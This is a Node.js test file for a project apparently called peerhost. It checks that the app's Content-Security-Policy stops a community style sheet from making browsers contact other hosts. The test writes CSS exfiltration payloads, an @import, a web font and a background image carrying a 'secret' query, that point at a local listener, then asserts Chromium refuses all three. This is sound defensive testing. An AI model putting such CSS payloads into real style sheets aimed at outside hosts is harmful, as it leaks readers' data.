'use strict'
// Issue 17 item 9: a community's style.css cannot make its readers' browsers request other
// URLs (CSS exfiltration). The community publishes the default app with a style sheet that
// names a listener this test owns on 127.0.0.1 — by @import, a background image (with a
// "secret" in its query) and a web font — and a reader opens the instance's page in Chromium.
// The page's Content-Security-Policy (the document's, web/build.mjs, and the app frame's) must
// refuse all three: the listener gets no request at all, and Chromium reports the violations.
//
// Needs: target/release/peerhost (or $PEERHOST_BIN), web/dist and web/app/dist (npm run build
// in web/, or $PEERHOST_PAGE / $PEERHOST_APP), /usr/bin/chromium (or $CHROMIUM).

const test = require('node:test')
const assert = require('node:assert')
const fs = require('node:fs')
const http = require('node:http')
const os = require('node:os')
const path = require('node:path')
const lib = require('./lib.js')

let dir, instance, chrome, listener, base
const hits = []

test.before(async () => {
  for (const f of [lib.BIN, path.join(lib.PAGE, 'index.html'), path.join(lib.APP, 'peerhost-runtime.js'), lib.CHROMIUM]) {
    if (!fs.existsSync(f)) throw new Error(`${f} is missing (see the header of this file)`)
  }
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'peerhost-csp-'))
  // Whatever asks, gets an answer that would work: CSS, an image, a font.
  listener = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`)
    const type = req.url.startsWith('/import') ? 'text/css' : req.url.startsWith('/font') ? 'font/woff2' : 'image/png'
    res.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' })
    res.end(type === 'text/css' ? 'body{outline:1px solid red}' : lib.png(4, 4))
  })
  await new Promise((resolve) => listener.listen(0, '127.0.0.1', resolve))
  base = `http://127.0.0.1:${listener.address().port}`
  const app = lib.copyApp(dir, 'app-exfil')
  const css = fs.readFileSync(path.join(app, 'style.css'), 'utf8')
  fs.writeFileSync(path.join(app, 'style.css'), `@import url(${base}/import.css);\n${css}\n` +
    `@font-face{font-family:exfil;src:url(${base}/font.woff2)}\n` +
    `body{font-family:exfil,sans-serif;background-image:url(${base}/bg.png?secret=S3CRET)}\n`)
  const community = lib.makeCommunity(dir, { posts: 3, app })
  // No mirror: the page takes the runtime, the app and the posts from the instance itself.
  instance = await lib.startInstance(community.storage)
  chrome = await lib.launch()
})

test.after(async () => {
  if (chrome) await chrome.close()
  lib.stop(instance)
  if (listener) listener.close()
  if (dir) fs.rmSync(dir, { recursive: true, force: true })
})

test("a community's style.css reaches no other host: CSP refuses @import, images and fonts", async () => {
  const p = await lib.countingPage(chrome.browser)
  const said = []
  p.page.on('console', (m) => said.push(m.text()))
  const { titles, frame } = await lib.loadPage(p, instance.url)
  assert.strictEqual(titles.length, 3, 'the app ran with its style sheet')
  // The style sheet was applied (the app's own rules are in it): the body got its font list.
  const family = await frame.evaluate(() => getComputedStyle(document.body).fontFamily)
  assert.match(family, /exfil/, 'the community style sheet is in effect')
  // Chromium reports each refusal on the console: wait for the three, then a little more for
  // anything that would still go out.
  const refused = () => said.filter((t) => /Content Security Policy/.test(t) && t.includes(base))
  await lib.waitFor('the violations are reported', () =>
    ['import.css', 'bg.png', 'font.woff2'].every((f) => refused().some((t) => t.includes(f))), 15_000)
    .catch(() => {})
  await lib.sleep(1000)
  console.log('# violations: ' + JSON.stringify(refused()))
  assert.deepStrictEqual(hits, [], 'the style sheet made the reader request another host')
  for (const f of ['import.css', 'bg.png', 'font.woff2']) {
    assert.ok(refused().some((t) => t.includes(f)), `no CSP violation for ${f}: ${JSON.stringify(said)}`)
  }
  await p.context.close()
})
